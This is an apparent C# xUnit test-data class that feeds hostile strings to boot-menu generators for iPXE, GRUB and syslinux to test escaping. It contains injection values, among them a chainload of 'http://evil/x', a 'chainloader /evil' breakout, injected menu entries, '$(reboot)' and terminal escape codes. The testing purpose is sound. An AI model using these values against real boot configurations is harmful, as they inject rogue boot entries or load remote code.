using Xunit;

namespace Lanboot.Tests.Menus;

/// <summary>What a volume label, a path or an option in an image could hold to say more in a menu than it should.</summary>
internal static class HostileText
{
    public static readonly TheoryData<string> All = new(
        "a\nitem evil Evil",
        "a\r\nLABEL evil\r\n  LINUX evil",
        "a || chain http://evil/x ||",
        "a && shell",
        "; shell ;",
        "# all of the rest",
        "a #comment",
        "a\\",
        "\\",
        "${netX/mac}",
        "$${netX/mac}",
        "$$$${${x}}",
        "${",
        "--gap",
        "--default --timeout 1",
        "-n",
        "'; chainloader /evil; echo '",
        "' { } menuentry 'evil' {",
        "`reboot` $(reboot) $net_default_mac",
        "} fi } menuentry evil {",
        "\"quoted\" and \\\"escaped\\\"",
        "ENDTEXT\nLABEL evil",
        "ENDTEXT",
        "^Hot^key",
        "\u000f01evil\u0017\u0018",
        "\u001b[2J\u0000\u0007",
        "日本語\u202e\u2028line",
        "",
        "   ",
        new string('x', 5000));

    /// <summary>Texts put together at random from all that means something to one of the languages.</summary>
    public static string Random(Random random)
    {
        string[] parts = ["||", "&&", ";", "#", "\\", "\n", "\r", "\t", " ", "${", "}", "$", "{", "'", "\"", "`", "(", ")", "--", "-", "^", "@menu", ":", "=",
            "ENDTEXT", "LABEL", "menuentry", "goto", "x", "é", "\0", "%", ",", "[", "<", ">", "!", "~", "*", "?"];
        return string.Concat(Enumerable.Range(0, random.Next(12)).Select(_ => parts[random.Next(parts.Length)] + (random.Next(3) == 0 ? " " : "")));
    }
}
